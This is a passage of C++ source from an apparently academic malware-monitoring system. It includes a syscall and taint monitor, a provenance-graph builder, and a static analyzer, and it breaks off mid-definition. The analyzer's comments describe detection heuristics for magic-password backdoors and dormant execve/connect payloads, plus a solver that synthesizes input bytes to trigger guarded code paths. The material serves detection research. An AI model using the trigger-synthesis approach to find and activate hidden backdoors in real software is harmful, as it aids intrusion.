                       const char *name_slot, const char *type_slot,
                       const char *label) {
        const auto &names = f.slot(name_slot).items();
        const auto &types = f.slot(type_slot).items();
        for (size_t i = 0; i < names.size() && i < types.size();
             ++i) {
            const std::string &type = types[i].text();
            const std::string &name = names[i].text();
            std::string oid = "origin:" + type + ":" + name;
            obs::ProvNode &on = graph.node(oid, "origin");
            Graph::attr(on, "type", type);
            Graph::attr(on, "name", name);
            Graph::attr(on, "class",
                        type == "SOCKET" ? "REMOTE" : "LOCAL");
            graph.edge(from, oid, label);
        }
    };

    if (tmpl == "system_call_access") {
        std::string eid = "event:" + std::to_string(f.id);
        obs::ProvNode &en = graph.node(eid, "event");
        Graph::attr(en, "syscall", text("system_call_name"));
        Graph::attr(en, "resource", text("resource_name"));
        Graph::attr(en, "resource_type", text("resource_type"));
        Graph::attr(en, "pid", num("pid"));
        Graph::attr(en, "time", num("abs_time"));
        graph.edge(fact_node_id, eid, "describes");
        origins(eid, "resource_origin_name", "resource_origin_type",
                "resource_origin");
    } else if (tmpl == "system_call_io") {
        std::string eid = "event:" + std::to_string(f.id);
        obs::ProvNode &en = graph.node(eid, "event");
        Graph::attr(en, "syscall", text("system_call_name"));
        Graph::attr(en, "direction", text("direction"));
        Graph::attr(en, "source", text("source_name"));
        Graph::attr(en, "source_type", text("source_type"));
        Graph::attr(en, "target", text("target_name"));
        Graph::attr(en, "target_type", text("target_type"));
        if (f.slot("via_server").truthy())
            Graph::attr(en, "server", text("server_name"));
        Graph::attr(en, "pid", num("pid"));
        Graph::attr(en, "time", num("abs_time"));
        graph.edge(fact_node_id, eid, "describes");
        // The endpoints themselves are origins too: a READ from a
        // socket makes that socket the provenance of the bytes even
        // before taint tracking labels them, and it is the node the
        // REMOTE class hangs off for verdicts like pma's.
        auto endpoint = [&](const char *name_slot,
                            const char *type_slot,
                            const char *label) {
            const std::string &type = f.slot(type_slot).text();
            const std::string &name = f.slot(name_slot).text();
            if (name.empty() || type.empty() || type == "NONE")
                return;
            std::string oid = "origin:" + type + ":" + name;
            obs::ProvNode &on = graph.node(oid, "origin");
            Graph::attr(on, "type", type);
            Graph::attr(on, "name", name);
            Graph::attr(on, "class",
                        type == "SOCKET" ? "REMOTE" : "LOCAL");
            graph.edge(eid, oid, label);
        };
        endpoint("source_name", "source_type", "source_origin");
        endpoint("target_name", "target_type", "target_origin");
        origins(eid, "source_origin_name", "source_origin_type",
                "source_origin");
        origins(eid, "target_origin_name", "target_origin_type",
                "target_origin");
        origins(eid, "server_origin_name", "server_origin_type",
                "server_origin");
    } else if (tmpl == "static_finding") {
        std::string sid = "finding:" + text("image") + ":" +
                          text("kind") + ":" + num("address");
        obs::ProvNode &sn = graph.node(sid, "finding");
        Graph::attr(sn, "image", text("image"));
        Graph::attr(sn, "kind", text("kind"));
        Graph::attr(sn, "level", num("level"));
        Graph::attr(sn, "address", num("address"));
        Graph::attr(sn, "syscall", text("syscall"));
        Graph::attr(sn, "resource", text("resource"));
        Graph::attr(sn, "detail", text("detail"));
        Graph::attr(sn, "witness", text("witness"));
        graph.edge(fact_node_id, sid, "describes");
    } else if (tmpl == "behavioral_anomaly") {
        std::string aid = "anomaly:" + text("run");
        obs::ProvNode &an = graph.node(aid, "anomaly");
        Graph::attr(an, "run", text("run"));
        Graph::attr(an, "baseline", text("baseline"));
        Graph::attr(an, "score",
                    std::to_string(f.slot("score").floatValue()));
        Graph::attr(an, "top", text("top"));
        graph.edge(fact_node_id, aid, "describes");
    }
}

void
Secpert::reset()
{
    warnings_.clear();
    warningFires_.clear();
    warningFacts_.clear();
    staticFindings_.clear();
    staticFindingKeys_.clear();
    out_.str("");
    env_.clearFacts();
    env_.assertString("(system_call_name (name SYS_execve))");
    env_.assertString(
        "(clone_stats (count 0) (window_start 0) (window_count 0))");
    env_.assertString("(mem_stats (growth 0))");
}

} // namespace hth::secpert
