/**
 * @file
 * Harrier: the HTH run-time monitor (paper §7).
 *
 * Harrier attaches to the VM as a PIN-style instrumentor and to the
 * kernel as its syscall monitor. It maintains per-process basic-block
 * frequency counters restricted to the application image with
 * "last application BB" attribution across shared-object calls
 * (§7.4, Fig. 3), implements the gethostbyname short-circuit
 * (§7.2), and converts decoded system calls into the resource-access
 * and resource-IO events Secpert consumes (§6.1).
 */

#ifndef HTH_HARRIER_HARRIER_HH
#define HTH_HARRIER_HARRIER_HH

#include <cstdint>
#include <map>
#include <set>
#include <string>
#include <unordered_map>
#include <vector>

#include "harrier/Event.hh"
#include "obs/Profiler.hh"
#include "os/Kernel.hh"
#include "os/Monitor.hh"
#include "vm/Machine.hh"

namespace hth::harrier
{

/** Harrier configuration. */
struct HarrierConfig
{
    /**
     * Treat host-resolution routines as atomic and copy the input
     * name's provenance onto the resolved address (§7.2). Disabling
     * this reproduces the failure mode the paper motivates the
     * mechanism with: the resolved address carries the resolver
     * database's provenance instead.
     */
    bool shortCircuitHostResolution = true;

    /** Kernel ticks per reported event time unit. */
    uint64_t timeScale = 100;

    /** Forward read events (writes always forwarded). */
    bool forwardReads = true;

    /** Run the static pre-screening analyzer on each image the
     * first time it is mapped, and forward its findings. */
    bool staticAnalysis = true;
};

/** Monitor statistics (performance evaluation §9). */
struct HarrierStats
{
    uint64_t bbCallbacks = 0;
    uint64_t accessEvents = 0;
    uint64_t ioEvents = 0;
    uint64_t shortCircuits = 0;
    uint64_t imagesAnalyzed = 0;
    uint64_t staticFindings = 0;
    uint64_t functionsSummarized = 0;   //!< taint summaries built
    uint64_t pathsExplored = 0;         //!< trigger-synthesis paths
    uint64_t solverIterations = 0;      //!< constraint-solver work
};

/** The run-time monitor. */
class Harrier : public vm::Instrumentor, public os::Monitor
{
  public:
    Harrier(EventSink &sink, HarrierConfig config = {});

    /** Attach to a kernel (installs both hook surfaces). */
    void attach(os::Kernel &kernel);

    /** @name vm::Instrumentor @{ */
    void imageLoaded(vm::Machine &m,
                     const vm::LoadedImage &img) override;
    void basicBlock(vm::Machine &m, uint32_t pc) override;
    /** @} */

    /** @name os::Monitor @{ */
    void processStarted(os::Kernel &k, os::Process &p) override;
    void processExited(os::Kernel &k, os::Process &p,
                       int code) override;
    void syscallEvent(os::Kernel &k, os::Process &p,
                      const os::SyscallView &view) override;
    void nativePre(os::Kernel &k, os::Process &p,
                   const std::string &name) override;
    void nativePost(os::Kernel &k, os::Process &p,
                    const std::string &name) override;
    /** @} */

    const HarrierStats &stats() const { return stats_; }
    const HarrierConfig &config() const { return config_; }

    /** Attribute event-dispatch / static-analysis time to
     * @p profiler (null detaches). */
    void setProfiler(obs::PhaseProfiler *profiler)
    {
        profiler_ = profiler;
    }

    /** Record an image_analysis span per screened image. */
    void setSpanTracer(obs::SpanTracer *tracer)
    {
        spanTracer_ = tracer;
    }

    /** BB execution count observed at @p addr for @p pid. */
    uint64_t bbCount(int pid, uint32_t addr) const;

  private:
    struct ProcMon
    {
        std::unordered_map<uint32_t, uint64_t> bbCount;
        /** Count slot of the most recent application BB: a loop
         * re-enters one block millions of times, so the repeat hit
         * increments through this pointer instead of re-hashing
         * (slots are stable inside bbCount). Reset with the map by
         * `mon = ProcMon{}` on (re)start. */
        uint32_t lastCountPc = 0;
        uint64_t *lastCountSlot = nullptr;
        uint32_t lastAppBb = 0;
        taint::TagSetId pendingNameTags = taint::TagStore::EMPTY;
        /** Application image, resolved lazily on the first BB after
         * (re)start so the callback avoids the per-BB image scan. */
        const vm::LoadedImage *appImg = nullptr;
    };

    ProcMon &monOf(const os::Process &p);
    EventContext makeContext(os::Kernel &k, os::Process &p);
    std::vector<OriginRef> originsOf(os::Kernel &k,
                                     taint::TagSetId tags) const;

    EventSink &sink_;
    HarrierConfig config_;
    os::Kernel *kernel_ = nullptr;
    std::map<int, ProcMon> procs_;
    /** One hash lookup per BB callback: machine straight to its
     * monitor record (ProcMon nodes are stable inside procs_). */
    std::unordered_map<const vm::Machine *, ProcMon *> machineMons_;

    /** Last machine resolved through machineMons_: consecutive BB
     * callbacks come overwhelmingly from one machine (a scheduler
     * quantum), so the repeat case is a pointer compare. Cleared on
     * any process lifecycle change. */
    const vm::Machine *lastMachine_ = nullptr;
    ProcMon *lastMon_ = nullptr;

    /** Images already pre-screened (one analysis per Image). */
    std::set<const vm::Image *> analyzedImages_;
    HarrierStats stats_;
    obs::PhaseProfiler *profiler_ = nullptr;
    obs::SpanTracer *spanTracer_ = nullptr;
};

} // namespace hth::harrier

#endif // HTH_HARRIER_HARRIER_HH
