#include "harrier/Harrier.hh"

#include "analysis/Analyzer.hh"
#include "obs/Span.hh"
#include "os/Libc.hh"
#include "support/Logging.hh"

namespace hth::harrier
{

using taint::SourceType;
using taint::TagSetId;
using taint::TagStore;

Harrier::Harrier(EventSink &sink, HarrierConfig config)
    : sink_(sink), config_(config)
{
}

void
Harrier::attach(os::Kernel &kernel)
{
    kernel_ = &kernel;
    kernel.setMonitor(this);
    kernel.setInstrumentor(this);
}

Harrier::ProcMon &
Harrier::monOf(const os::Process &p)
{
    return procs_[p.pid];
}

//
// Load-time static pre-screening
//

void
Harrier::imageLoaded(vm::Machine &m, const vm::LoadedImage &img)
{
    (void)m;
    if (!config_.staticAnalysis || !img.image)
        return;
    const vm::Image *key = img.image.get();
    if (!analyzedImages_.insert(key).second)
        return; // each distinct image is screened once
    obs::PhaseScope analysis(profiler_, obs::Phase::StaticAnalysis);
    obs::SpanScope span(spanTracer_, obs::SpanId::ImageAnalysis);
    ++stats_.imagesAnalyzed;

    analysis::StaticReport report = analysis::analyzeImage(*key);
    stats_.staticFindings += report.findings.size();
    stats_.functionsSummarized += report.stats.functionsSummarized;
    stats_.pathsExplored += report.stats.pathsExplored;
    stats_.solverIterations += report.stats.solverIterations;
    for (const analysis::Finding &f : report.findings) {
        StaticFindingEvent ev;
        ev.imagePath = report.imagePath;
        ev.kind = analysis::kindName(f.kind);
        ev.level = (int)f.level;
        ev.address = f.address;
        ev.syscall = f.syscall;
        ev.resource = f.resource;
        ev.detail = f.detail;
        ev.witness = f.witness;
        sink_.onStaticFinding(ev);
    }
}

//
// Basic-block frequency with application-image attribution (§7.4)
//

void
Harrier::basicBlock(vm::Machine &m, uint32_t pc)
{
    ++stats_.bbCallbacks;
    ProcMon *monp = lastMon_;
    if (&m != lastMachine_) {
        auto it = machineMons_.find(&m);
        if (it == machineMons_.end())
            return;
        lastMachine_ = &m;
        lastMon_ = monp = it->second;
    }
    ProcMon &mon = *monp;
    if (!mon.appImg)
        mon.appImg = m.appImage();
    if (!mon.appImg || !mon.appImg->containsText(pc))
        return; // shared-object code: keep the last application BB
    if (pc == mon.lastCountPc && mon.lastCountSlot) {
        ++*mon.lastCountSlot;
    } else {
        mon.lastCountSlot = &mon.bbCount[pc];
        mon.lastCountPc = pc;
        ++*mon.lastCountSlot;
    }
    mon.lastAppBb = pc;
}

uint64_t
Harrier::bbCount(int pid, uint32_t addr) const
{
    auto it = procs_.find(pid);
    if (it == procs_.end())
        return 0;
    auto bit = it->second.bbCount.find(addr);
    return bit == it->second.bbCount.end() ? 0 : bit->second;
}

//
// Process lifecycle
//

void
Harrier::processStarted(os::Kernel &k, os::Process &p)
{
    (void)k;
    // A fresh image (spawn or execve) restarts frequency counting
    // and invalidates the cached application image (execve replaces
    // the machine's image set, dangling the old pointer).
    ProcMon &mon = procs_[p.pid];
    mon = ProcMon{};
    machineMons_[&p.machine] = &mon;
    lastMachine_ = nullptr;
    lastMon_ = nullptr;
}

void
Harrier::processExited(os::Kernel &k, os::Process &p, int code)
{
    (void)k;
    (void)code;
    machineMons_.erase(&p.machine);
    lastMachine_ = nullptr;
    lastMon_ = nullptr;
}

//
// Event formatting
//

EventContext
Harrier::makeContext(os::Kernel &k, os::Process &p)
{
    ProcMon &mon = monOf(p);
    EventContext ctx;
    ctx.pid = p.pid;
    ctx.binaryPath = p.binaryPath;
    const uint64_t scale = config_.timeScale ? config_.timeScale : 1;
    ctx.time = (k.now() - p.startTime) / scale;
    ctx.absTime = k.now() / scale;
    ctx.address = mon.lastAppBb;
    auto it = mon.bbCount.find(mon.lastAppBb);
    ctx.frequency = it == mon.bbCount.end() ? 0 : it->second;
    return ctx;
}

std::vector<OriginRef>
Harrier::originsOf(os::Kernel &k, TagSetId tags) const
{
    std::vector<OriginRef> out;
    for (const taint::Tag &tag : k.tagStore().tags(tags)) {
        OriginRef ref;
        ref.type = tag.type;
        if (tag.type == SourceType::Hardware) {
            ref.name = "CPU";
        } else if (tag.res == taint::NO_RESOURCE) {
            ref.name = sourceTypeName(tag.type);
        } else {
            ref.name = k.resource(tag.res).name;
        }
        out.push_back(std::move(ref));
    }
    return out;
}

void
Harrier::syscallEvent(os::Kernel &k, os::Process &p,
                      const os::SyscallView &view)
{
    obs::PhaseScope dispatch(profiler_,
                             obs::Phase::EventDispatch);
    if (view.isWrite) {
        ResourceIoEvent ev;
        ev.ctx = makeContext(k, p);
        ev.syscall = view.name;
        ev.isWrite = true;
        ev.length = view.len;
        ev.targetName = view.resName;
        ev.targetType = view.resType;
        ev.targetOrigins = originsOf(k, view.resNameTags);
        if (view.viaServer) {
            // Writing to an accepted connection: the policy reasons
            // about the *server* socket's address provenance (§8.3.6).
            const taint::Resource &srv =
                k.resource(view.serverResource);
            ev.viaServer = true;
            ev.serverName = srv.name;
            ev.serverOrigins = originsOf(k, srv.nameOrigin);
            ev.targetOrigins = ev.serverOrigins;
        }

        const auto &tags = k.tagStore().tags(view.dataTags);
        if (tags.empty()) {
            // Untainted data: still report the write, sourceless.
            ++stats_.ioEvents;
            sink_.onResourceIo(ev);
            return;
        }
        // One event per data source so the policy can reason about
        // each flow separately (the paper prints one warning per
        // source, e.g. libcrypto and libreadline for pwsafe).
        for (const taint::Tag &tag : tags) {
            ResourceIoEvent per = ev;
            per.source.type = tag.type;
            if (tag.type == SourceType::Hardware) {
                per.source.name = "CPU";
            } else if (tag.res == taint::NO_RESOURCE) {
                per.source.name = sourceTypeName(tag.type);
            } else {
                const taint::Resource &res = k.resource(tag.res);
                per.source.name = res.name;
                per.sourceOrigins = originsOf(k, res.nameOrigin);
                if (res.server != taint::NO_RESOURCE) {
                    // Data read from an accepted connection: attach
                    // the server context and reason with the server
                    // address's provenance.
                    const taint::Resource &srv =
                        k.resource(res.server);
                    per.viaServer = true;
                    per.serverName = srv.name;
                    per.serverOrigins = originsOf(k, srv.nameOrigin);
                    per.sourceOrigins = per.serverOrigins;
                }
            }
            ++stats_.ioEvents;
            sink_.onResourceIo(per);
        }
        return;
    }

    if (view.isRead) {
        if (!config_.forwardReads)
            return;
        ResourceIoEvent ev;
        ev.ctx = makeContext(k, p);
        ev.syscall = view.name;
        ev.isWrite = false;
        ev.length = view.len;
        ev.source.type = view.resType;
        ev.source.name = view.resName;
        ev.sourceOrigins = originsOf(k, view.resNameTags);
        ev.targetName = "memory";
        ev.targetType = SourceType::Unknown;
        if (view.viaServer) {
            const taint::Resource &srv =
                k.resource(view.serverResource);
            ev.viaServer = true;
            ev.serverName = srv.name;
            ev.serverOrigins = originsOf(k, srv.nameOrigin);
        }
        ++stats_.ioEvents;
        sink_.onResourceIo(ev);
        return;
    }

    ResourceAccessEvent ev;
    ev.ctx = makeContext(k, p);
    ev.syscall = view.name;
    ev.resName = view.resName;
    ev.resType = view.resType;
    ev.origins = originsOf(k, view.resNameTags);
    ev.isProcessCreate = view.isProcessCreate;
    ev.amount = view.amount;
    ++stats_.accessEvents;
    sink_.onResourceAccess(ev);
}

//
// Library-call short-circuit (§7.2)
//

void
Harrier::nativePre(os::Kernel &k, os::Process &p,
                   const std::string &name)
{
    (void)k;
    if (name != "gethostbyname")
        return;
    uint32_t name_ptr = os::nativeArg(p, 0);
    monOf(p).pendingNameTags = p.machine.taintTracking()
                                   ? p.machine.stringTags(name_ptr)
                                   : TagStore::EMPTY;
}

void
Harrier::nativePost(os::Kernel &k, os::Process &p,
                    const std::string &name)
{
    (void)k;
    if (name != "gethostbyname" ||
        !config_.shortCircuitHostResolution ||
        !p.machine.taintTracking())
        return;
    uint32_t buf = p.machine.reg(vm::Reg::Eax);
    if (!buf)
        return;
    // Treat the resolution as atomic: the resolved address inherits
    // the provenance of the host-name argument.
    size_t len = p.machine.mem().readCString(buf).size();
    p.machine.shadow().setRange(buf, (uint32_t)len + 1,
                                monOf(p).pendingNameTags);
    ++stats_.shortCircuits;
}

} // namespace hth::harrier
