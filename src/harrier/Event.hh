/**
 * @file
 * Events Harrier sends to Secpert (paper §6.1.2).
 *
 * Two event types: *resource access* (a system call naming a
 * resource: execve, open, connect, bind, ...) and *resource IO*
 * (write to / read from a resource). Each carries the resource name,
 * its type, and the provenance of the name itself — the resource ID
 * (origin) data sources of Table 2 — plus the time, code frequency
 * and code address attribution of §6.1.2.
 */

#ifndef HTH_HARRIER_EVENT_HH
#define HTH_HARRIER_EVENT_HH

#include <cstdint>
#include <string>
#include <vector>

#include "taint/DataSource.hh"

namespace hth::harrier
{

/** One provenance entry: a data source type plus its resource name. */
struct OriginRef
{
    taint::SourceType type = taint::SourceType::Unknown;
    std::string name;

    bool operator==(const OriginRef &) const = default;
};

/** Attribution common to both event types. */
struct EventContext
{
    int pid = 0;
    std::string binaryPath;     //!< program being monitored
    uint64_t time = 0;          //!< since process start, scaled
    uint64_t absTime = 0;       //!< global kernel time, scaled
    uint64_t frequency = 0;     //!< executions of the triggering BB
    uint32_t address = 0;       //!< the triggering application BB
};

/** A system call accessing a resource (§6.1.2 type 1). */
struct ResourceAccessEvent
{
    EventContext ctx;
    std::string syscall;                //!< "SYS_execve", ...
    std::string resName;
    taint::SourceType resType = taint::SourceType::Unknown;
    std::vector<OriginRef> origins;     //!< provenance of resName
    bool isProcessCreate = false;       //!< fork / clone

    /** For SYS_brk: bytes of heap growth. */
    uint64_t amount = 0;
};

/** A write to / read from a resource (§6.1.2 type 2). */
struct ResourceIoEvent
{
    EventContext ctx;
    std::string syscall;
    bool isWrite = false;

    /** One data source of the transferred bytes (one event each). */
    OriginRef source;
    std::vector<OriginRef> sourceOrigins;   //!< provenance of its name

    std::string targetName;
    taint::SourceType targetType = taint::SourceType::Unknown;
    std::vector<OriginRef> targetOrigins;

    /** Socket-server context (pma-style warnings). */
    bool viaServer = false;
    std::string serverName;
    std::vector<OriginRef> serverOrigins;

    uint32_t length = 0;
};

/**
 * A static-analysis finding reported at image-load time.
 *
 * Carries plain strings so the sink does not depend on the analysis
 * subsystem; `kind` and `level` use the analysis fact symbols
 * ("MAGIC_GUARD", ... / 0=info .. 3=high).
 */
struct StaticFindingEvent
{
    std::string imagePath;      //!< image the finding is about
    std::string kind;           //!< "MAGIC_GUARD", "DORMANT_SYSCALL", ...
    int level = 0;              //!< 0 info, 1 low, 2 medium, 3 high
    uint32_t address = 0;       //!< image-relative site
    std::string syscall;        //!< "SYS_execve", ... (may be empty)
    std::string resource;       //!< recovered argument string
    std::string detail;

    /** TRIGGER_HYPOTHESIS only: synthesized input bytes that drive
     * the guest down the guarded path. Empty otherwise. */
    std::vector<uint8_t> witness;
};

/** Receiver of Harrier events (implemented by Secpert). */
class EventSink
{
  public:
    virtual ~EventSink() = default;
    virtual void onResourceAccess(const ResourceAccessEvent &ev) = 0;
    virtual void onResourceIo(const ResourceIoEvent &ev) = 0;

    /** Load-time static pre-screening result (default: ignore). */
    virtual void onStaticFinding(const StaticFindingEvent &ev)
    {
        (void)ev;
    }
};

/**
 * Fans one event stream out to several sinks, in order. Lets a
 * trace recorder (or any other observer) sit in front of the live
 * Secpert without either knowing about the other.
 */
class TeeSink : public EventSink
{
  public:
    explicit TeeSink(std::vector<EventSink *> sinks)
        : sinks_(std::move(sinks))
    {
    }

    void
    onResourceAccess(const ResourceAccessEvent &ev) override
    {
        for (EventSink *sink : sinks_)
            sink->onResourceAccess(ev);
    }

    void
    onResourceIo(const ResourceIoEvent &ev) override
    {
        for (EventSink *sink : sinks_)
            sink->onResourceIo(ev);
    }

    void
    onStaticFinding(const StaticFindingEvent &ev) override
    {
        for (EventSink *sink : sinks_)
            sink->onStaticFinding(ev);
    }

  private:
    std::vector<EventSink *> sinks_;
};

} // namespace hth::harrier

#endif // HTH_HARRIER_EVENT_HH
