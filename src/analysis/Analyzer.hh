/**
 * @file
 * Static pre-screening of guest images (the load-time complement of
 * Harrier's run-time monitoring).
 *
 * The analyzer runs a constant-propagation dataflow pass over the
 * static CFG to recover `int 0x80` syscall numbers and argument
 * provenance, then hunts suspicious shapes the paper's dynamic
 * monitor cannot see until they execute:
 *
 *  - a compare of received network bytes against a program constant
 *    guarding an exec/connect/write region (the classic
 *    magic-password backdoor the paper motivates with);
 *  - dangerous syscalls (execve / connect) on statically unreachable
 *    code (dormant payloads);
 *  - direct jumps whose target lies outside `.text`;
 *  - stack imbalance at a `ret`;
 *  - statically reachable exec/connect sites whose argument is a
 *    `.data`-resident (hard-coded) string.
 *
 * Findings flow to Secpert as persistent `static_finding` facts, so
 * hybrid policies can combine them with dynamic events.
 */

#ifndef HTH_ANALYSIS_ANALYZER_HH
#define HTH_ANALYSIS_ANALYZER_HH

#include <cstdint>
#include <string>
#include <vector>

#include "analysis/Cfg.hh"
#include "vm/Image.hh"

namespace hth::analysis
{

/** How suspicious a finding is on its own. */
enum class Level : int
{
    Info = 0,
    Low = 1,
    Medium = 2,
    High = 3,
};

const char *levelName(Level level);

/** What shape was found. */
enum class Kind
{
    MagicGuard,     //!< received byte vs constant guards a payload
    DormantSyscall, //!< exec/connect on unreachable code
    StaticSyscall,  //!< reachable syscall with hard-coded argument
    JumpOutOfText,  //!< direct branch target outside .text
    StackImbalance, //!< non-empty abstract stack at ret
    UnreachableCode,//!< blocks no path from entry reaches
    TaintPath,      //!< input-derived data reaches a dangerous sink
    TriggerHypothesis,  //!< synthesized input fires a dormant path
};

/** Fact symbol, e.g. "MAGIC_GUARD". */
const char *kindName(Kind kind);

/** One static finding. */
struct Finding
{
    Kind kind = Kind::UnreachableCode;
    Level level = Level::Info;
    uint32_t address = 0;       //!< image-relative site
    std::string syscall;        //!< "SYS_execve", ... (may be empty)
    std::string resource;       //!< recovered argument string
    std::string detail;         //!< human-readable explanation

    /** For TriggerHypothesis: concrete input bytes that drive the
     * guest down the guarded path. Empty otherwise. */
    std::vector<uint8_t> witness;
};

/** A syscall site the dataflow pass resolved. */
struct SyscallSite
{
    uint32_t address = 0;
    std::string name;           //!< "SYS_execve", "SYS_connect", ...
    bool reachable = false;
    bool resourceInData = false;//!< argument is a .data address
    std::string resource;
};

/** Work performed by the deeper analysis passes (metrics feed). */
struct AnalysisStats
{
    uint64_t functionsSummarized = 0;
    uint64_t pathsExplored = 0;
    uint64_t solverIterations = 0;
};

/** Everything the analyzer concluded about one image. */
struct StaticReport
{
    std::string imagePath;
    size_t blockCount = 0;
    size_t reachableBlocks = 0;
    size_t instructionCount = 0;
    std::vector<SyscallSite> syscalls;
    std::vector<Finding> findings;
    AnalysisStats stats;

    bool
    flagged(Level floor) const
    {
        for (const Finding &f : findings)
            if ((int)f.level >= (int)floor)
                return true;
        return false;
    }
};

/** Analyze @p image; never throws on well-formed images. */
StaticReport analyzeImage(const vm::Image &image);

/** Render a report for diagnostics / the hth-lint CLI. */
std::string reportToString(const StaticReport &report);

} // namespace hth::analysis

#endif // HTH_ANALYSIS_ANALYZER_HH
