#include "analysis/Constraint.hh"

#include <algorithm>
#include <map>
#include <sstream>

namespace hth::analysis
{

uint32_t
SymExpr::apply(uint32_t v) const
{
    for (const SymOp &op : ops) {
        switch (op.k) {
        case SymOp::Xor:
            v ^= op.imm;
            break;
        case SymOp::And:
            v &= op.imm;
            break;
        case SymOp::Or:
            v |= op.imm;
            break;
        case SymOp::Add:
            v += op.imm;
            break;
        case SymOp::Sub:
            v -= op.imm;
            break;
        case SymOp::Mul:
            v *= op.imm;
            break;
        case SymOp::Shl:
            // Mirror Machine.cc: shift counts are masked to 5 bits.
            v <<= (op.imm & 31);
            break;
        case SymOp::Shr:
            v >>= (op.imm & 31);
            break;
        }
    }
    return v;
}

const char *
cmpOpName(CmpOp op)
{
    switch (op) {
    case CmpOp::Eq:
        return "==";
    case CmpOp::Ne:
        return "!=";
    case CmpOp::Lt:
        return "<";
    case CmpOp::Ge:
        return ">=";
    }
    return "?";
}

bool
Constraint::holds(uint32_t byte_value) const
{
    uint32_t lhs = expr.apply(byte_value);
    switch (op) {
    case CmpOp::Eq:
        return lhs == rhs;
    case CmpOp::Ne:
        return lhs != rhs;
    case CmpOp::Lt:
        return static_cast<int32_t>(lhs - rhs) < 0;
    case CmpOp::Ge:
        return static_cast<int32_t>(lhs - rhs) >= 0;
    }
    return false;
}

std::string
Constraint::toString() const
{
    std::ostringstream os;
    os << "in[" << expr.slot << "]";
    for (const SymOp &sop : expr.ops) {
        const char *n = "?";
        switch (sop.k) {
        case SymOp::Xor:
            n = "^";
            break;
        case SymOp::And:
            n = "&";
            break;
        case SymOp::Or:
            n = "|";
            break;
        case SymOp::Add:
            n = "+";
            break;
        case SymOp::Sub:
            n = "-";
            break;
        case SymOp::Mul:
            n = "*";
            break;
        case SymOp::Shl:
            n = "<<";
            break;
        case SymOp::Shr:
            n = ">>";
            break;
        }
        os << n << sop.imm;
    }
    os << " " << cmpOpName(op) << " " << rhs;
    return os.str();
}

SolveResult
solveConstraints(const std::vector<Constraint> &constraints,
                 int selectivity_max)
{
    SolveResult result;

    // Group constraints by slot; each group is an independent
    // 256-value search.
    std::map<int, std::vector<const Constraint *>> by_slot;
    for (const Constraint &c : constraints)
        if (c.expr.slot >= 0)
            by_slot[c.expr.slot].push_back(&c);

    if (by_slot.empty())
        return result;

    result.satisfiable = true;
    bool any_selective = false;
    for (const auto &[slot, cs] : by_slot) {
        SlotSolution sol;
        sol.slot = slot;
        for (uint32_t v = 0; v < 256; ++v) {
            bool ok = true;
            for (const Constraint *c : cs) {
                ++result.iterations;
                if (!c->holds(v)) {
                    ok = false;
                    break;
                }
            }
            if (ok) {
                if (!sol.value)
                    sol.value = static_cast<uint8_t>(v);
                ++sol.satisfyingCount;
            }
        }
        if (!sol.value)
            result.satisfiable = false;
        else if (sol.satisfyingCount <= selectivity_max)
            any_selective = true;
        result.slots.push_back(sol);
    }
    result.selective = result.satisfiable && any_selective;
    return result;
}

} // namespace hth::analysis
