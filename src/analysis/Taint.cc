#include "analysis/Taint.hh"

#include <algorithm>
#include <array>
#include <deque>
#include <map>
#include <set>
#include <sstream>

#include "os/Syscalls.hh"

namespace hth::analysis
{

using vm::Instruction;
using vm::INSN_SIZE;
using vm::Opcode;
using vm::Reg;

std::string
taintMaskName(uint32_t mask)
{
    static const std::pair<uint32_t, const char *> names[] = {
        {T_BINARY, "binary"},       {T_HARDWARE, "hardware"},
        {T_STDIN, "stdin"},         {T_FILE_HARD, "file-hard"},
        {T_FILE_USER, "file-user"}, {T_FILE_REMOTE, "file-remote"},
        {T_FILE_OTHER, "file-other"},
        {T_SOCK_HARD, "sock-hard"}, {T_SOCK_USER, "sock-user"},
        {T_SOCK_REMOTE, "sock-remote"},
        {T_SOCK_OTHER, "sock-other"},
        {T_SOCK_SRV_HARD, "sock-server-hard"},
        {T_ARGV, "argv"},
    };
    std::string out;
    for (const auto &[bit, name] : names) {
        if (!(mask & bit))
            continue;
        if (!out.empty())
            out += "|";
        out += name;
    }
    return out.empty() ? "none" : out;
}

const char *
nameClassName(NameClass c)
{
    switch (c) {
    case NameClass::Hard:
        return "hard";
    case NameClass::User:
        return "user";
    case NameClass::Remote:
        return "remote";
    case NameClass::Other:
        return "other";
    }
    return "?";
}

namespace
{

constexpr uint32_t SOCK_BITS = T_SOCK_HARD | T_SOCK_USER |
                               T_SOCK_REMOTE | T_SOCK_OTHER |
                               T_SOCK_SRV_HARD;
constexpr uint32_t FILE_BITS = T_FILE_HARD | T_FILE_USER |
                               T_FILE_REMOTE | T_FILE_OTHER;

/** Abstract value with taint provenance. */
struct TVal
{
    enum K
    {
        Unknown,    //!< anything
        Const,      //!< program constant
        DataAddr,   //!< image-relative address (from a relocation)
        Fd,         //!< descriptor returned at syscall site v
    };
    K k = Unknown;
    uint32_t v = 0;
    uint32_t taint = 0;

    bool operator==(const TVal &) const = default;
    bool isAddr() const { return k == Const || k == DataAddr; }
    bool trivial() const { return k == Unknown && taint == 0; }
};

TVal
unknownT(uint32_t taint = 0)
{
    return {TVal::Unknown, 0, taint};
}

TVal
joinTVal(const TVal &a, const TVal &b)
{
    if (a.k == b.k && a.v == b.v)
        return {a.k, a.v, a.taint | b.taint};
    return unknownT(a.taint | b.taint);
}

/** Flow-sensitive state: registers + constant-addressed memory. */
struct TState
{
    std::array<TVal, vm::NUM_REGS> regs{};
    std::map<uint32_t, TVal> mem;

    bool operator==(const TState &) const = default;
};

/** dst = join(dst, src) in place; true when dst changed. Values
 * require agreement on both sides (must information); taint is a
 * may property and survives one-sided entries. */
bool
joinInto(TState &dst, const TState &src)
{
    bool changed = false;
    for (size_t i = 0; i < vm::NUM_REGS; ++i) {
        TVal j = joinTVal(dst.regs[i], src.regs[i]);
        if (!(j == dst.regs[i])) {
            dst.regs[i] = j;
            changed = true;
        }
    }
    for (auto it = dst.mem.begin(); it != dst.mem.end();) {
        auto sit = src.mem.find(it->first);
        TVal j = sit != src.mem.end()
                     ? joinTVal(it->second, sit->second)
                     : unknownT(it->second.taint);
        if (j.trivial()) {
            it = dst.mem.erase(it);
            changed = true;
            continue;
        }
        if (!(j == it->second)) {
            it->second = j;
            changed = true;
        }
        ++it;
    }
    for (const auto &[addr, val] : src.mem) {
        if (dst.mem.count(addr))
            continue;
        TVal j = unknownT(val.taint);
        if (!j.trivial()) {
            dst.mem.emplace(addr, j);
            changed = true;
        }
    }
    return changed;
}

/** The flags of the last Cmp/CmpI (only the naive engine branches
 * on them; the summary engine explores both arms). */
struct TFlags
{
